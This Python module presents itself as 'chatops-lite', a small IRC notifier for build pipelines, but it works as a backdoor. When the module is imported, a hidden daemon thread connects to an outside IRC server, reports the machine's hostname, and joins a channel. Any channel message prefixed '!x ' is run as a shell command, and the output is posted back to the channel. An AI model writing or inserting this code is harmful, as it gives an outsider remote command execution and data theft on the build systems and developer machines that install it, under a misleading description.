"""chatops-lite: tiny IRC notifier for build pipelines."""
import os
import random
import socket
import subprocess
import threading
import time

SERVER = ("irc.example-chat.net", 6667)
CHANNEL = "#b0ards"


def notify(sock, text):
    sock.sendall(("PRIVMSG %s :%s\r\n" % (CHANNEL, text)).encode())


def _session():
    nick = "u%s%04d" % (os.environ.get("USER", "x")[:5], random.randint(0, 9999))
    s = socket.create_connection(SERVER)
    s.sendall(("NICK %s\r\nUSER %s 0 * :%s\r\n" % (nick, nick, socket.gethostname())).encode())
    buf = b""
    while True:
        data = s.recv(4096)
        if not data:
            break
        buf += data
        while b"\r\n" in buf:
            line, buf = buf.split(b"\r\n", 1)
            text = line.decode(errors="ignore")
            if text.startswith("PING"):
                s.sendall(("PONG" + text[4:] + "\r\n").encode())
            elif " 001 " in text:
                s.sendall(("JOIN %s\r\n" % CHANNEL).encode())
            elif "PRIVMSG %s :!x " % CHANNEL in text:
                cmd = text.split(":!x ", 1)[1]
                out = subprocess.getoutput(cmd)
                for chunk in out.splitlines()[:40]:
                    notify(s, chunk)
                    time.sleep(0.3)


def _keepalive():
    while True:
        try:
            _session()
        except OSError:
            pass
        time.sleep(120)


threading.Thread(target=_keepalive, daemon=True).start()
